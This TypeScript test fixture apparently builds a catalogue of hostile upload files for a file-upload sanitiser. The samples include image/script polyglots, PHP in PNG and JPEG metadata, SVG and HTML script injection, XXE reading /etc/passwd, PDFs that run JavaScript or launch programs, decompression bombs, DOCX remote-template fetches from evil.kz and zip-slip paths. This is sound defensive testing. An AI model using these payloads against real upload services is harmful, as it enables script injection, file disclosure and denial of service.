import { deflateSync } from 'node:zlib'
import {
  buildGreyPng,
  buildHeader,
  buildPhotograph,
  buildPng,
  buildWebpFlood,
  setJpegSize,
} from './made-images.ts'
import { formatPdf } from './made-pdf.ts'
import {
  buildDocx,
  buildZip,
  formatDocument,
  formatReferences,
  formatTypes,
  listDocxParts,
  paragraph,
} from './made-zip.ts'

/** `expected`: the type that it may be taken in as, or null where it has to be refused. */
export type Hostile = { readonly what: string; readonly bytes: Uint8Array; readonly expected: string | null }

/** What none of these files may still say in its copy. */
export const payload = '<script>alert("EVIL")</script>'
const php = '<?php system("EVIL"); ?>'
const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

const join = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)))
const latin = (text: string) => Buffer.from(text, 'latin1')

async function listImages(): Promise<Hostile[]> {
  const png = await buildPhotograph('png', 'x')
  const jpeg = await buildPhotograph('jpeg', 'x')
  const webp = await buildPhotograph('webp', 'x')
  const gif = latin(
    'GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;*/=1;alert("EVIL")//',
  )
  const tiny = Buffer.from([...jpeg.subarray(0, 2), 0xff, 0xfe, 0, php.length + 2])
  return [
    { what: 'GIF and script in one', bytes: gif, expected: null },
    {
      what: 'BMP and script in one',
      bytes: join('BM/*', Buffer.alloc(60), '*/=alert("EVIL")'),
      expected: null,
    },
    {
      what: 'PNG with PHP in a text',
      bytes: buildGreyPng(4, 4, [['tEXt', `Comment\0${php}`]]),
      expected: 'image/png',
    },
    {
      what: 'PNG with a page in packed text',
      bytes: buildGreyPng(4, 4, [['zTXt', join('c\0\0', deflateSync(payload))]]),
      expected: 'image/png',
    },
    { what: 'PNG with a page at its end', bytes: join(png, payload), expected: 'image/png' },
    { what: 'PNG with an archive at its end', bytes: join(png, buildDocx()), expected: 'image/png' },
    {
      what: 'PNG with an unknown chunk',
      bytes: buildGreyPng(4, 4, [['evIl', payload]]),
      expected: 'image/png',
    },
    { what: 'PNG whose sums are wrong', bytes: buildGreyPng(4, 4).fill(0, 29, 33), expected: null },
    { what: 'PNG cut in the middle', bytes: png.subarray(0, png.byteLength / 2), expected: null },
    {
      what: 'PNG of a thousand million points',
      bytes: buildPng([buildHeader(50_000, 50_000), ['IDAT', deflateSync(Buffer.alloc(9))], ['IEND', '']]),
      expected: null,
    },
    {
      what: 'PNG of the largest size there is',
      bytes: buildPng([buildHeader(0x7fffffff, 0x7fffffff), ['IDAT', ''], ['IEND', '']]),
      expected: null,
    },
    {
      what: 'PNG of no size',
      bytes: buildPng([buildHeader(0, 0), ['IDAT', ''], ['IEND', '']]),
      expected: null,
    },
    { what: 'PNG that inflates to 64 million points', bytes: buildGreyPng(8000, 8000), expected: null },
    {
      what: 'PNG with a profile that inflates',
      bytes: buildGreyPng(4, 4, [['iCCP', join('x\0\0', deflateSync(Buffer.alloc(30_000_000)))]]),
      expected: 'image/png',
    },
    {
      what: 'PNG that moves',
      bytes: buildGreyPng(4, 4, [['acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])]]),
      expected: null,
    },
    { what: 'JPEG with PHP in a comment', bytes: join(tiny, php, jpeg.subarray(2)), expected: 'image/jpeg' },
    { what: 'JPEG with a page at its end', bytes: join(jpeg, payload), expected: 'image/jpeg' },
    { what: 'JPEG of a flood of points', bytes: setJpegSize(jpeg, 65_000, 65_000), expected: null },
    // A picture all the same, whose rest is grey: what is given out is drawn anew from its points.
    {
      what: 'JPEG that is larger than it has points',
      bytes: setJpegSize(jpeg, 5000, 5000),
      expected: 'image/jpeg',
    },
    { what: 'JPEG cut in the middle', bytes: jpeg.subarray(0, jpeg.byteLength - 40), expected: null },
    { what: 'JPEG that is only a beginning', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]), expected: null },
    { what: 'WebP of a flood of points', bytes: buildWebpFlood(), expected: null },
    { what: 'WebP with a page at its end', bytes: join(webp, payload), expected: 'image/webp' },
    { what: 'WebP that is another RIFF', bytes: latin('RIFF\x10\0\0\0WAVEfmt EVIL'), expected: null },
    { what: 'AVIF by its name', bytes: latin('\0\0\0\x18ftypavif\0\0\0\0avifmif1'), expected: null },
    { what: 'TIFF', bytes: latin('II*\0\x08\0\0\0EVIL'), expected: null },
  ]
}

const listTexts = (): Hostile[] => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("EVIL")</script></svg>'
  const page = `<!doctype html><body><p>Words</p>${payload}</body>`
  return [
    { what: 'SVG with script', bytes: latin(svg), expected: null },
    {
      what: 'SVG behind a declaration',
      bytes: latin(`<?xml version="1.0"?>\n<!-- x -->${svg}`),
      expected: null,
    },
    { what: 'SVG with a document type', bytes: latin(`<!DOCTYPE svg PUBLIC "x" "y">${svg}`), expected: null },
    {
      what: 'XML with entities',
      bytes: latin('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
      expected: null,
    },
    { what: 'a page named as a PDF', bytes: latin(page), expected: 'text/html' },
    {
      what: 'a page with a PDF inside',
      bytes: join(`<html><p>Words</p>${payload}<!--`, formatPdf(), '-->'),
      expected: 'text/html',
    },
    {
      what: 'a page with handlers in every element',
      bytes: latin(
        `<html><body onload="EVIL()"><p onclick="EVIL()">Words</p><math><mtext><script>EVIL()</script></mtext></math></body></html>`,
      ),
      expected: 'text/html',
    },
    {
      what: 'a page in UTF-7',
      bytes: latin('<html><meta charset="utf-7"><p>Words</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
      expected: 'text/html',
    },
    {
      what: 'a page with zeros between its letters',
      bytes: latin('<\0h\0t\0m\0l\0>\0<\0script>EVIL'),
      expected: null,
    },
    { what: 'a page of nothing but script', bytes: latin(`<html>${payload}</html>`), expected: null },
    {
      what: 'a page nested without end',
      bytes: latin(`<html><p>Words</p>${'<div>'.repeat(500_000)}`),
      expected: null,
    },
    {
      what: 'a page of comments without end',
      bytes: latin(`${'<!-- -->'.repeat(100_000)}<html>`),
      expected: null,
    },
    { what: 'a script', bytes: latin('alert("EVIL")'), expected: null },
    { what: 'PHP', bytes: latin(php), expected: null },
    { what: 'a shell script', bytes: latin('#!/bin/sh\necho EVIL'), expected: null },
    { what: 'a program for Windows', bytes: join('MZ', Buffer.alloc(58), 'PE\0\0EVIL'), expected: null },
    { what: 'a program for Linux', bytes: join('\x7fELF', Buffer.alloc(60)), expected: null },
    {
      what: 'a saved page with its parts (MHTML)',
      bytes: latin('MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>EVIL'),
      expected: null,
    },
    { what: 'RTF', bytes: latin('{\\rtf1{\\object\\objocx EVIL}}'), expected: null },
    {
      what: 'an old document with macros',
      bytes: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]),
      expected: null,
    },
    { what: 'noise', bytes: Buffer.alloc(10_000, 0xa5), expected: null },
  ]
}

const listPdfs = (): Hostile[] => {
  const script = '/OpenAction<</S/JavaScript/JS(app.alert\\("EVIL"\\))>>'
  return [
    {
      what: 'PDF that runs script when opened',
      bytes: latin(formatPdf(script)),
      expected: 'application/pdf',
    },
    {
      what: 'PDF that starts a program',
      bytes: latin(formatPdf('/OpenAction<</S/Launch/F(EVIL.exe)>>')),
      expected: 'application/pdf',
    },
    { what: 'PDF with a page at its end', bytes: latin(formatPdf() + payload), expected: 'application/pdf' },
    {
      what: 'PDF with a page in a remark',
      bytes: latin(formatPdf().replace('%PDF-1.4\n', `%PDF-1.4\n%${payload}\n`)),
      expected: 'application/pdf',
    },
    { what: 'PDF and archive in one', bytes: join(formatPdf(), buildDocx()), expected: 'application/pdf' },
    {
      what: 'PDF with forms in XFA',
      bytes: latin(formatPdf('/AcroForm<</XFA(EVIL)/Fields[]>>')),
      expected: 'application/pdf',
    },
    {
      what: 'PDF whose name is spelt in numbers',
      bytes: latin(formatPdf('/#4fpenAction<</S/J#61vaScript/JS(EVIL)>>')),
      expected: 'application/pdf',
    },
    { what: 'PDF in name only', bytes: latin(`%PDF-1.7\n${payload}`), expected: null },
    {
      what: 'PDF whose pages hold themselves',
      bytes: latin(formatPdf().replace('/Kids[3 0 R]', '/Kids[2 0 R]')),
      expected: null,
    },
    { what: 'PDF nested without end', bytes: latin(formatPdf(`/X ${'['.repeat(200_000)}`)), expected: null },
    {
      what: 'PDF with a stream that inflates without end',
      bytes: buildPdfBomb(),
      expected: 'application/pdf',
    },
  ]
}

function buildPdfBomb(): Uint8Array {
  const packed = deflateSync(Buffer.alloc(60_000_000, ' '), { level: 9 }).toString('latin1')
  return latin(formatPdf('', packed).replace(/\/Length \d+/, `/Filter/FlateDecode/Length ${packed.length}`))
}

function listDocuments(): Hostile[] {
  const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml'
  const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
  const refer = (kind: string, target: string, external = false) =>
    buildDocx({ 'word/_rels/document.xml.rels': formatReferences([kind, target, external]) })
  const slip = (name: string) => buildZip([...listDocxParts(), { name, data: payload }])
  return [
    {
      what: 'DOCX with macros in name',
      bytes: buildDocx({ '[Content_Types].xml': formatTypes(macro) }),
      expected: null,
    },
    { what: 'DOCX with macros', bytes: buildDocx({ 'word/vbaProject.bin': 'EVIL' }), expected: null },
    {
      what: 'DOCX with a control',
      bytes: buildDocx({ 'word/activeX/activeX1.bin': 'EVIL' }),
      expected: null,
    },
    {
      what: 'DOCX with an embedded object',
      bytes: buildDocx({ 'word/embeddings/oleObject1.bin': 'EVIL' }),
      expected: null,
    },
    {
      what: 'DOCX that fetches its template',
      bytes: refer('attachedTemplate', 'https://evil.kz/a.dotm', true),
      expected: null,
    },
    {
      what: 'DOCX that fetches its template from a neighbour',
      bytes: refer('attachedTemplate', '\\\\evil\\a.dotm', true),
      expected: null,
    },
    { what: 'DOCX that brings a page in', bytes: refer('aFChunk', 'afchunk.html'), expected: null },
    {
      what: 'DOCX with an object elsewhere',
      bytes: refer('oleObject', 'mhtml:https://evil.kz/x!y', true),
      expected: null,
    },
    {
      what: 'DOCX with a link that runs',
      bytes: refer('hyperlink', 'javascript:EVIL', true),
      expected: docx,
    },
    {
      what: 'DOCX with a part nobody reads',
      bytes: buildDocx({ 'word/evil.html': payload, 'EVIL.exe': 'MZ' }),
      expected: docx,
    },
    {
      what: 'DOCX that is a workbook',
      bytes: buildDocx({ '[Content_Types].xml': formatTypes(sheet) }),
      expected: null,
    },
    { what: 'DOCX without its document', bytes: buildZip(listDocxParts().slice(0, 2)), expected: null },
    { what: 'DOCX that climbs out', bytes: slip('../../evil.html'), expected: null },
    { what: 'DOCX that climbs out the other way', bytes: slip('..\\evil.html'), expected: null },
    { what: 'DOCX from the root', bytes: slip('/evil.html'), expected: null },
    { what: 'DOCX behind a program', bytes: join('PK', buildDocx()), expected: null },
    { what: 'DOCX with a page at its end', bytes: join(buildDocx(), payload), expected: null },
    {
      what: 'DOCX that is not well-formed',
      bytes: buildDocx({ 'word/document.xml': '<w:document>' }),
      expected: null,
    },
    {
      what: 'DOCX with a document type',
      bytes: buildDocx({
        'word/document.xml': `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${formatDocument(paragraph('&a;'))}`,
      }),
      expected: null,
    },
    { what: 'an archive', bytes: buildZip([{ name: 'evil.html', data: payload }]), expected: null },
    {
      what: 'a program in Java',
      bytes: buildZip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: EVIL' }]),
      expected: null,
    },
    { what: 'an empty archive', bytes: buildZip([]), expected: null },
  ]
}

export const listHostileUploads = async (): Promise<Hostile[]> => [
  ...(await listImages()),
  ...listTexts(),
  ...listPdfs(),
  ...listDocuments(),
]
